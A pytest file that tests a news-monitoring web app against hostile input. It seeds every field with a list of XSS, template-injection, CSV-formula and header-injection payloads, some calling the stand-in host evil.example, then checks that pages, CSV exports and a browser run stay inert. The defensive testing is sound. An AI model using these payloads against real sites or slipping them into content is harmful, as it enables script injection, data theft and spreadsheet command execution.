"""Texts of strangers stay texts: whatever stands in titles, names, bylines, notes and rules, no page gets an element, attribute or link
of it, no sheet a formula."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from itertools import cycle
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from asking import token
from browsing import launched, served
from fastapi.routing import APIRoute
from lxml import html
from sqlalchemy import update
from starlette.testclient import TestClient

from rasd.desk.app import create_app
from rasd.desk.pages import routers
from rasd.flow.reading import read
from rasd.flow.relating import relate
from rasd.records import Article
from rasd.store import Store, open_store
from rasd.store.tables import sources, stories

if TYPE_CHECKING:
    from playwright.sync_api import Dialog

MARK = "zq7"  # stands in every payload, so that an attribute or element that came from one is known by it
RLO, PDF, LRI, ZWNJ = "\u202e", "\u202c", "\u2066", "\u200c"  # bidi controls and a non-joiner, by their numbers
PAYLOADS = [
    "<script>alert('zq7')</script>",
    "</title><script>alert('zq7')</script>",
    "</textarea><script>alert('zq7')</script>",
    "</script><script>alert('zq7')</script>",
    "<ScRiPt src=//evil.example/zq7.js></ScRiPt>",
    "<scr<script>ipt>alert('zq7')</scr</script>ipt>",
    "<img src=x onerror=alert('zq7')>",
    "<img src='x' onerror='alert(`zq7`)'>",
    "<svg onload=alert('zq7')>",
    "<svg><animate onbegin=alert('zq7') attributeName=x dur=1s>",
    "<svg><script>alert('zq7')</script></svg>",
    "<svg><a href='javascript:alert(`zq7`)'><text>x</text></a></svg>",
    "<math><mtext><img src=x onerror=alert('zq7')></mtext></math>",
    "<body onload=alert('zq7')>",
    "<iframe srcdoc='<script>alert(`zq7`)</script>'></iframe>",
    "<iframe src='javascript:alert(`zq7`)'></iframe>",
    "<object data='data:text/html,<script>alert(`zq7`)</script>'></object>",
    "<embed src='//evil.example/zq7.swf'>",
    "<link rel=stylesheet href='//evil.example/zq7.css'>",
    "<style>@import '//evil.example/zq7.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/zq7'>",
    "<base href='//evil.example/zq7/'>",
    "<form action='//evil.example/zq7'><input name=csrf><button>x",
    "<button formaction='javascript:alert(`zq7`)'>x</button>",
    "<details open ontoggle=alert('zq7')>x</details>",
    "<input autofocus onfocus=alert('zq7')>",
    "<video><source onerror=alert('zq7')></video>",
    "<template><script>alert('zq7')</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(`zq7`)>'>",
    "<!--><img src=x onerror=alert('zq7')>-->",
    "<![CDATA[<img src=x onerror=alert('zq7')>]]>",
    "<xss id=zq7 tabindex=1 onfocus=alert('zq7')></xss>",
    '" onmouseover="alert(\'zq7\')" x="',
    "' onmouseover='alert(`zq7`)' x='",
    "`onmouseover=alert('zq7')`",
    "\"><img src=x onerror=alert('zq7')>",
    "'><svg/onload=alert('zq7')>",
    "x\" autofocus onfocus=alert('zq7') y=\"",
    "javascript:alert('zq7')",
    "data:text/html,<script>alert('zq7')</script>",
    "{{7*7}}zq7{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}zq7{% endfor %}",
    "${7*7}zq7#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert('zq7')&lt;/script&gt;",
    "&#60;script&#62;zq7&#60;/script&#62;",
    "\x00<script\x00>alert('zq7')</script>",
    "\ud800<script>alert('zq7')</script>\udfff",
    "+ADw-script+AD4-alert('zq7')+ADw-/script+AD4-",
    f"{RLO}gpj.zq7{PDF}{LRI}<b>zq7</b>",
    f"zq7{ZWNJ}" + "و" * 3000,
    '=HYPERLINK("http://evil.example/zq7","x")',
    "+zq7|cmd!A1",
    "-2+3+cmd|' /C calc'!zq7",
    "@SUM(1+1)zq7",
    "\t=zq7()",
    "\r\n=zq7()\r\nset-cookie: zq7=1",
    "%0d%0aset-cookie:zq7=1",
    "\x1b]0;zq7\x07\x1b[2J",
]
URLS = ["javascript:alert('zq7')", "data:text/html,zq7", "vbscript:zq7", " javascript:alert('zq7')", "//evil.example/zq7", "JaVaScRiPt:zq7"]
BODY = "وقال وزير الخارجية {a} في بغداد إن «{b}». وقتل 3 جنود في هجوم شنه {a} على الرطبة يوم الأحد. وزعم المتحدث {a} أن {b}."
TEXTS = ("q", "words", "outlet", "speaker", "place", "actor", "a", "type", "country", "lemma")  # parameters
ROUTES = [route for router in routers() for route in router.routes if isinstance(route, APIRoute)]
PAGES = [route for route in ROUTES if any(other.name == f"{route.name}.json" for other in ROUTES)]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    """A store of articles whose every field is hostile, read, related, judged, corrected, with baskets, alerts and people's words."""
    with open_store(tmp_path_factory.mktemp("hostile") / "desk.db") as store:
        fill(store)
        read(store, "rules")
        relate(store)
        with store.write() as writer:
            for k, row in enumerate(store.rows(sources.select())):
                error = {"last_error": text(PAYLOADS[k]), "last_error_at": "2020-08-23T00:00:00+00:00", "errors": 1}
                writer.connection.execute(update(sources).where(sources.c.number == row["number"]).values(error))
            for k, row in enumerate(store.rows(stories.select())):
                writer.connection.execute(update(stories).where(stories.c.id == row["id"]).values(title=text(PAYLOADS[k % len(PAYLOADS)])))
        with TestClient(create_app(store), base_url="http://localhost") as client:
            decide(store, client)
        yield store


def text(payload: str) -> str:
    """A payload as a database takes it."""
    return payload.replace("\x00", "\ufffd").encode("utf-8", "replace").decode()


def fill(store: Store) -> None:
    urls = cycle(URLS)
    with store.write() as writer:
        for k, payload in enumerate(PAYLOADS):
            other = PAYLOADS[(k + 7) % len(PAYLOADS)]
            source = writer.source(text(f"{payload} {k}"), "feed", url=next(urls), outlet=text(other))
            article = Article(
                f"row-{k}",
                text=f"{payload}\n\n" + BODY.format(a=f"قاسم الشمري {other}", b=f"الحدود آمنة {payload} ولن ننسى"),
                title=payload,
                url=next(urls),
                outlet=other,
                published=f"2020-08-{1 + k % 28:02}",
                byline=payload,
                credit=(payload, other),
            )
            writer.add(article, source=source, published_from="row")


def decide(store: Store, client: TestClient) -> None:
    """What people write: notes and sections of the basket, judgements, names of actors, alerts."""
    csrf = token(client)
    story = client.get("/stories.json").json()["stories"][0]["id"]
    articles = [line["id"] for line in client.get("/articles.json").json()["articles"]]
    for k, (kind, id) in enumerate([("story", story), *(("article", id) for id in articles[:20])]):
        form = {"csrf": csrf, "what": f"{kind} {id}", "back": "/"}
        assert client.post("/basket/put", data=form, follow_redirects=False).status_code == 303
        form |= {"kind": kind, "id": id, "do": "keep", "section": text(PAYLOADS[k])[:150], "note": text(PAYLOADS[-k - 1])[:2000]}
        answer = client.post("/basket/change", data=form, follow_redirects=False)
        assert answer.status_code == 303, answer.text[-900:]
    record = client.get(f"/articles/{articles[0]}.json").json()
    for k, event in enumerate(record["events"]):
        form = {"csrf": csrf, "do": "accept" if k else "reject", "subject": "event", "finding": event["id"], "note": PAYLOADS[0]}
        assert client.post(f"/articles/{articles[0]}/judge", data=form, follow_redirects=False).status_code == 303
    for line, payload in zip(client.get("/actors.json").json()["actors"], [p for p in PAYLOADS if p.isprintable()], strict=False):
        form = {"csrf": csrf, "ar": payload, "en": payload}
        assert client.post(f"/actors/{line['actor']['id']}/rename", data=form, follow_redirects=False).status_code in (303, 400)
    for payload in PAYLOADS[:8]:
        alert = {"csrf": csrf, "new": "search", "name": payload, "words": "الحدود", "q": "الحدود"}
        assert client.post("/alerts/add", data=alert, follow_redirects=False).status_code in (303, 400)


@pytest.fixture(scope="module")
def desk_of_strangers(hostile: Store) -> Iterator[TestClient]:
    with TestClient(create_app(hostile), base_url="http://localhost") as client:
        yield client


def addresses(client: TestClient) -> list[str]:
    """Every page there is; those of one thing for several of them, those with words for hostile words."""
    ids = {
        "story": [row["id"] for row in client.get("/stories.json").json()["stories"][:8]],
        "article": [row["id"] for row in client.get("/articles.json?size=80").json()["articles"]],
        "actor": [row["actor"]["id"] for row in client.get("/actors.json").json()["actors"][:8]],
    }
    found = []
    for route in PAGES:
        kind = {"compare": "story", "actor-statements": "actor"}.get(route.name, route.name)
        if "{id}" not in route.path:
            texts = [name for name in TEXTS if takes(route, name)]
            found += [route.path, *(f"{route.path}?{name}=%22%3E%3Csvg/onload=alert(%27zq7%27)%3E" for name in texts)]
        else:
            found += [route.path.replace("{id}", id) for id in ids.get(kind, ())]
    return found


def takes(route: APIRoute, name: str) -> bool:
    """Whether a page is asked with this parameter."""
    waiting = [route.dependant]
    while waiting:
        one = waiting.pop()
        if any(field.alias == name for field in one.query_params):
            return True
        waiting += one.dependencies
    return False


def test_no_element_attribute_or_link_comes_from_a_text(desk_of_strangers: TestClient) -> None:
    strange: dict[str, list[str]] = {}
    shown = set()
    for address in addresses(desk_of_strangers):
        answer = desk_of_strangers.get(address, headers={"accept": "text/html"})
        assert answer.status_code in (200, 400), f"{address}: {answer.status_code}"
        page = html.fromstring(answer.content, parser=html.HTMLParser(encoding="utf-8", huge_tree=True))
        if found := [*strange_things(page)]:
            strange[address] = found[:5]
        shown |= {k for k, payload in enumerate(PAYLOADS) if text(payload).strip()[:30] in page.text_content()}
    assert strange == {}
    assert len(shown) > 40  # the texts are on the pages indeed


def strange_things(page: html.HtmlElement) -> Iterator[str]:
    for one in page.iter():
        if not isinstance(one.tag, str):
            if MARK in (one.text or ""):
                yield f"comment {one.text}"
            continue
        if one.tag not in TAGS:
            yield f"<{one.tag}>"
        if one.tag in ("script", "style") and (MARK in (one.text or "") or not (one.get("src") or one.get("type") == "application/json")):
            yield f"<{one.tag}> {one.text}"
        for name, value in one.attrib.items():
            if name.startswith("on") or name == "style" or MARK in name or not re.fullmatch(r"[a-zA-Z][\w:-]*", name):
                yield f"<{one.tag} {name}>"
            if name in ("href", "src", "action", "formaction", "xlink:href", "srcset", "data") and strange_link(one, value):
                yield f"<{one.tag} {name}={value}>"


def strange_link(one: html.HtmlElement, value: str) -> bool:
    parts = urlsplit(value.strip())
    if parts.scheme in ("http", "https"):
        return one.tag != "a" or "noopener" not in one.get("rel", "")
    return bool(parts.scheme or parts.netloc or value.startswith(("//", "\\")))


TAGS = set(
    "html head meta title link script body a header nav ul ol li form label input span main h1 h2 h3 h4 p div section article aside footer"
    " button kbd dialog dl dt dd bdi bdo time table caption colgroup col thead tbody tfoot tr th td select option optgroup fieldset legend"
    " textarea details summary svg g path rect line circle text title desc polyline polygon use defs marker tspan meter progress output"
    " strong em b i small mark abbr blockquote q cite figure figcaption br hr sup sub code pre del ins datalist template search clippath"
    " clipPath".split()
)


def test_no_cell_is_a_formula(desk_of_strangers: TestClient) -> None:
    cells = 0
    for address in addresses(desk_of_strangers):
        path, _, asked = address.partition("?")
        answer = desk_of_strangers.get(f"{'/today' if path == '/' else path}.csv?{asked}")
        if answer.status_code != 200:
            continue
        for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")):
            cells += len(row)
            wrong = [cell for cell in row if cell.lstrip("\ufeff \t\r\n")[:1] in ("=", "+", "@") or re.match(r"\s*-(?!\d+(\.\d+)?$)", cell)]
            assert wrong == [], address
    assert cells > 1000


def test_nothing_of_it_runs_in_a_browser(hostile: Store, desk_of_strangers: TestClient) -> None:
    few = {re.sub(r"(sto|art|act)-[0-9a-f]+|\?.*", "", address): address for address in addresses(desk_of_strangers)}
    said: list[str] = []

    def heard(dialog: Dialog) -> None:
        said.append(dialog.message)
        dialog.dismiss()

    with launched() as browser, served(hostile) as desk:
        page = browser.new_page()
        page.on("dialog", heard)
        page.on(
            "console",
            lambda message: said.append(message.text) if message.type == "error" and "status of 400" not in message.text else None,
        )
        page.on("pageerror", lambda error: said.append(str(error)))
        page.on("request", lambda request: None if request.url.startswith((desk, "data:")) else said.append(request.url))
        for address in few.values():
            page.goto(desk + address)
    assert said == []


def test_a_bulletin_of_strangers_can_be_made_in_every_format(desk_of_strangers: TestClient) -> None:
    for ending in ("html", "eml", "docx", "pdf", "md", "xlsx", "csv"):
        answer = desk_of_strangers.get(f"/bulletin.{ending}?title=%07%3Cscript%3Ezq7")
        assert answer.status_code == 200, ending
        if ending == "html":
            assert "<script" not in answer.text
            assert not re.search(r"href=[\"']?\s*(?:javascript|data|vbscript):", answer.text, re.I)


def test_no_form_falls_over_what_it_is_sent(desk_of_strangers: TestClient) -> None:
    """Each POST address with strange values in every field that it describes, and in none."""
    csrf = token(desk_of_strangers)
    for route in ROUTES:
        if "POST" not in (route.methods or ()) or route.name in ("logout", "basket.empty"):
            continue
        fields = [field.alias for one in (route.dependant, *route.dependant.dependencies) for field in one.body_params]
        path = re.sub(r"\{\w+\}", "zq7", route.path)
        for payload in ("", PAYLOADS[0], "\x00", "9" * 400, "act-zq7"):
            form = dict.fromkeys([*fields, "do", "subject", "finding"], payload) | {"csrf": csrf}
            answer = desk_of_strangers.post(path, data=form, follow_redirects=False)
            assert answer.status_code < 500, f"{route.path} {payload!r}: {answer.status_code}"
            assert MARK not in answer.headers.get("location", "").split("?")[0].replace(path, "")


def test_a_nul_in_an_address_is_taken_for_no_letter(desk: TestClient) -> None:
    assert desk.get("/search.json?place=a%00b").status_code == 200
    assert desk.get("/actors/a%00b.json").status_code == 404
